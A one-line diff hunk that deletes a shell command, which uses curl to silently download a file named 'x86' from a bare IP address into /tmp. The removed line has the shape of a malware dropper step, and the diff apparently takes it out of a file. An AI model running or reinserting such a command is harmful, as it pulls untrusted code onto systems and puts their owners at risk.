@@ -1,1 +1,0 @@
-curl -fsSL http://91.198.174.192/x86 -o /tmp/x
